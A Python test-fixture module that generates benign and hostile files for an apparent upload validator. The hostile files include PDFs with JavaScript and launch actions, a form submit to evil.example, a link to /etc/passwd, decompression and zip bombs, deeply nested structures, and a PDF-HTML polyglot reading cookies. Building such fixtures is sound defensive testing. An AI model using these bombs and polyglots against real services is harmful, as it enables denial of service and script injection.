"""Good and hostile files, made when they are needed: nothing of the kind lies in the repository."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageDraw

# In two halves, or a scanner on the developer's machine takes this file away.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF, JPEG, PNG, WEBP = "application/pdf", "image/jpeg", "image/png", "image/webp"
MB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Case:
    """A file, and what is to become of it: a type with what is taken out, or a refusal's code."""

    name: str
    make: Callable[[], bytes]
    accepted: str = ""
    removed: frozenset[str] = frozenset()
    refused: str = ""


def zeros(megabytes: int) -> bytes:
    """So many megabytes of nothing, packed by zlib: one, repeated without packing it again."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    one = pack.compress(bytes(MB)) + pack.flush(zlib.Z_FULL_FLUSH)
    checksum = (megabytes * MB % 65521) << 16 | 1
    return b"\x78\xda" + one * megabytes + pack.flush() + checksum.to_bytes(4, "big")


# -- PDF -------------------------------------------------------------------------------------


def new_pdf(pages: int = 1, text: str = "Blood count") -> Pdf:
    pdf = Pdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        words = f"BT /F1 24 Tf 72 700 Td ({text} {number + 1}) Tj ET"
        page.obj.Contents = pdf.make_stream(words.encode())
    return pdf


def saved(pdf: Pdf, **options: object) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def pdf_of(change: Callable[[Pdf], None]) -> Callable[[], bytes]:
    def make() -> bytes:
        pdf = new_pdf()
        change(pdf)
        return saved(pdf)

    return make


def action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name(kind), **more)


def javascript() -> Dictionary:
    return action("/JavaScript", JS=String("app.alert('hello')"))


def annotate(pdf: Pdf, **entries: object) -> None:
    annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 90, 90]), **entries)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _open_javascript(pdf: Pdf) -> None:
    pdf.Root.OpenAction = javascript()


def _named_javascript(pdf: Pdf) -> None:
    tree = Dictionary(Names=Array([String("a"), pdf.make_indirect(javascript())]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def _javascript_when_a_page_opens(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=javascript())


def _javascript_of_a_field(pdf: Pdf) -> None:
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("sum"),
            Rect=Array([0, 0, 90, 20]),
            AA=Dictionary(C=javascript()),
        )
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    pdf.pages[0].obj.Annots = Array([field])


def _javascript_after_a_harmless_action(pdf: Pdf) -> None:
    chained = action("/GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([javascript()]))
    annotate(pdf, Subtype=Name.Link, A=chained)


def _javascript_in_the_outline(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("One"), A=javascript()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))


def _launch(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.Link, A=action("/Launch", F=String("cmd.exe")))


def _submits(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.Link, A=action("/SubmitForm", F=String("https://evil.example/")))


def _link_to_a_file(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.Link, A=action("/URI", URI=String("file:///etc/passwd")))


def _link_to_the_web(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.Link, A=action("/URI", URI=String("https://clinic.example/")))


def _opens_a_page(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def _attachment(pdf: Pdf) -> None:
    pdf.attachments["tool.exe"] = b"MZ" + bytes(200)


def _attached_to_a_page(pdf: Pdf) -> None:
    inside = pdf.make_stream(b"MZ" + bytes(200), Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("tool.exe"), EF=Dictionary(F=inside))
    annotate(pdf, Subtype=Name.FileAttachment, FS=pdf.make_indirect(spec))


def _static_xfa(pdf: Pdf) -> None:
    form = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)


def _dynamic_xfa(pdf: Pdf) -> None:
    _static_xfa(pdf)
    pdf.Root.NeedsRendering = True


def _rich_media(pdf: Pdf) -> None:
    content = Dictionary(Assets=Dictionary(Names=Array([])))
    annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=content)


def _portfolio(pdf: Pdf) -> None:
    _attachment(pdf)
    pdf.Root.Collection = Dictionary(Type=Name.Collection)


def _resources_called_as_actions(pdf: Pdf) -> None:
    """What is called /AA and /EF here are fonts."""
    page = pdf.pages[0].obj
    fonts = page.Resources.Font
    fonts.AA = fonts.EF = fonts.F1
    page.Contents = pdf.make_stream(b"BT /AA 24 Tf 72 700 Td (Letter) Tj ET")


def eicar_in_pdf() -> bytes:
    pdf = new_pdf()
    pdf.attachments["eicar.com"] = EICAR
    return saved(pdf)


def hidden_name() -> bytes:
    """The name of the action written with an escape, as who hides it does."""
    plain = saved(new_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    hidden = b"/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"
    return plain.replace(b"/Type /Catalog", hidden, 1)


def cut_off() -> bytes:
    whole = saved(new_pdf(5))
    return whole[: len(whole) * 2 // 3]


def cut_off_for_the_web() -> bytes:
    """Its first end mark stands at its beginning."""
    whole = saved(new_pdf(40), linearize=True)
    return whole[: len(whole) * 9 // 10]


def cut_off_in_an_update() -> bytes:
    return saved(new_pdf()) + b"12 0 obj\n<< /Type /Page /Parent 3 0 R /Contents ["


def encrypted(**words: str) -> Callable[[], bytes]:
    return lambda: saved(new_pdf(), encryption=pikepdf.Encryption(**words))


def deflate_bomb() -> bytes:
    """A megabyte that unpacks to a gigabyte, drawn by the page."""
    pdf = new_pdf()
    pdf.pages[0].obj.Contents = Stream(pdf, zeros(1000), Filter=Name.FlateDecode)
    return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def deflate_bomb_as_a_picture() -> bytes:
    """The same, which says that it is a picture of one point."""
    pdf = Pdf.open(io.BytesIO(deflate_bomb()))
    contents = pdf.pages[0].obj.Contents
    contents.Subtype, contents.Width, contents.Height = Name.Image, 1, 1
    return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def deflate_bomb_in_a_bomb() -> bytes:
    pdf = new_pdf()
    twice = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].obj.Contents = Stream(pdf, zlib.compress(zeros(1000), 9), Filter=twice)
    return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def object_stream_bomb() -> bytes:
    """What has to be unpacked to open the file at all."""
    packed = zlib.compress(b"1 0 " + b" " * (900 * MB // 10) + b"<< >>", 9)
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    body = b"%PDF-1.5\n" + catalog
    at_stream = len(body)
    body += b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
    body += str(len(packed)).encode() + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n"
    at = len(body)
    rows = [(0, 0, 65535), (1, 9, 0), (2, 3, 0), (1, at_stream, 0), (1, at, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    body += b"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Length "
    body += str(len(table)).encode() + b" >>\nstream\n" + table + b"\nendstream\nendobj\n"
    return body + f"startxref\n{at}\n%%EOF\n".encode()


def picture_of_too_many_points() -> bytes:
    pdf = new_pdf()
    image = pdf.make_stream(
        b"\x00" * 100,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=100_000,
        Height=100_000,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
    )
    pdf.pages[0].obj.Resources.XObject = Dictionary(I=image)
    return saved(pdf)


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    written, places = io.BytesIO(b"%PDF-1.4\n"), []
    written.seek(0, io.SEEK_END)
    for number, each in enumerate(objects, 1):
        places.append(written.tell())
        written.write(b"%d 0 obj\n%s\nendobj\n" % (number, each))
    body = written.getvalue()
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % count
    tail = b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
    return body + head + table + tail % (count, root, len(body))


def deep_arrays() -> bytes:
    nested = b"[" * 200_000 + b"]" * 200_000
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Deep " + nested + b" >>"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
        ]
    )


def deep_page_tree() -> bytes:
    """Each node of the tree has one child, for fifty thousand levels."""
    deep = 50_000
    nodes = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    nodes += [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (number + 1, number - 1)
        for number in range(3, deep)
    ]
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] >>" % (deep - 1)
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, page])


def doubling_page_tree() -> bytes:
    """Each node refers twice to the next: a page for every way through."""
    levels = 40
    nodes = [
        b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (number + 1, number + 1)
        for number in range(2, levels)
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, page])


def many_objects() -> bytes:
    numbers = [b"<< /A 1 >>"] * 300_000
    kids = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", kids, page, *numbers])


def many_pages() -> bytes:
    count = 20_000
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << >> >>"] * count
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", tree, *pages])


def endless_drawing() -> bytes:
    """Forms that draw each other, ten times each: a page that is never done."""
    levels = 12
    pdf = new_pdf()
    inner = pdf.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form)
    inner.BBox = Array([0, 0, 99, 99])
    for _ in range(levels):
        outer = pdf.make_stream(b"/X Do " * 10, Type=Name.XObject, Subtype=Name.Form)
        outer.BBox, outer.Resources = Array([0, 0, 99, 99]), Dictionary(XObject=Dictionary(X=inner))
        inner = outer
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=inner)
    pdf.pages[0].obj.Contents = pdf.make_stream(b"/X Do")
    return saved(pdf)


def scanned_pdf(pages: int = 20, size: tuple[int, int] = (1654, 2339)) -> bytes:
    """As a copier makes them: a photo a page, which says where it was taken."""
    pdf = new_pdf(pages)
    for number, page in enumerate(pdf.pages):
        image = pdf.make_stream(photo(size, seed=number), Type=Name.XObject)
        image.Subtype, image.Filter = Name.Image, Name.DCTDecode
        image.Width, image.Height, image.BitsPerComponent = *size, 8
        image.ColorSpace = Name.DeviceRGB
        page.obj.Resources.XObject = Dictionary(I=image)
        page.obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    return saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


# -- Pictures --------------------------------------------------------------------------------


def drawing(size: tuple[int, int] = (640, 480), mode: str = "RGB", seed: int = 1) -> Image.Image:
    image = Image.new("RGB", size, (245, 245, 240))
    draw, chance = ImageDraw.Draw(image), random.Random(seed)
    for _ in range(60):
        x, y = chance.randrange(size[0]), chance.randrange(size[1])
        colour = tuple(chance.randrange(255) for _ in range(3))
        draw.ellipse((x, y, x + size[0] // 9, y + size[1] // 9), fill=colour)
    return image.convert(mode)


def camera(orientation: int = 6) -> Image.Exif:
    """What a phone writes beside a photo: where, by what, which way is up."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "Maker", orientation
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)})
    return exif


def picture(kind: str, image: Image.Image | None = None, **options: object) -> bytes:
    buffer = io.BytesIO()
    (image or drawing()).save(buffer, kind, **options)
    return buffer.getvalue()


def photo(size: tuple[int, int] = (640, 480), *, seed: int = 1, **options: object) -> bytes:
    return picture("JPEG", drawing(size, seed=seed), exif=camera(), quality=88, **options)


def moving(kind: str) -> bytes:
    frames = [drawing((64, 64), seed=seed) for seed in range(3)]
    return picture(kind, frames[0], save_all=True, append_images=frames[1:], duration=100)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(side: int = 50_000) -> bytes:
    data = zeros(side * (side + 1) // MB + 1)
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", data), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*each) for each in chunks)


def png_of_a_lie() -> bytes:
    """It says that it is small, and unpacks to a gigabyte."""
    data = zeros(1000)
    head = struct.pack(">IIBBBBB", 100, 100, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", data), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*each) for each in chunks)


def text_bomb() -> bytes:
    """A note of a gigabyte beside a small picture."""
    note = b"Comment\0\0" + zeros(1000)
    plain = picture("PNG")
    return plain[:33] + png_chunk(b"zTXt", note) + plain[33:]


def jpeg_of_many_scans() -> bytes:
    """The last scan of a progressive picture, a thousand times more."""
    plain = picture("JPEG", progressive=True)
    last = plain[plain.rindex(b"\xff\xda") : -2]
    return plain[:-2] + last * 1000 + b"\xff\xd9"


def large_jpeg_header() -> bytes:
    """A small photo that says it has 65500 × 65500 points."""
    plain = bytearray(picture("JPEG"))
    frame = plain.index(b"\xff\xc0")
    plain[frame + 5 : frame + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(plain)


# -- Several at once, and none ---------------------------------------------------------------


def zipped(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    inner = zipped("a", bytes(100 * MB))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(100):
            archive.writestr(f"{number}.zip", inner)
    return buffer.getvalue()


def pdf_and_page() -> bytes:
    """A PDF which a browser may be talked into showing as a page."""
    plain = saved(new_pdf())
    head, rest = plain.split(b"\n", 1)
    return head + b"\n%<html><script>alert(document.cookie)</script></html>\n" + rest


def gif_and_pdf() -> bytes:
    gif = picture("GIF", drawing((8, 8), "P"))
    return gif[:-1] + b"\x21\xfe\x08%PDF-1.4\x00;" if len(gif) < 900 else b"GIF89a%PDF-1.4"


def jpeg_and_pdf() -> bytes:
    plain, pdf = picture("JPEG"), saved(new_pdf())
    return plain[:2] + b"\xff\xfe" + struct.pack(">H", len(pdf) + 2) + pdf + plain[2:]


def padded_pdf(size: int) -> bytes:
    """As large as asked, to the byte."""
    pdf = new_pdf()
    pdf.pages[0].obj.Noise = pdf.make_stream(random.Random(1).randbytes(size - 20_000))
    plain = saved(pdf, compress_streams=False)
    return plain + b"\n" * (size - len(plain))
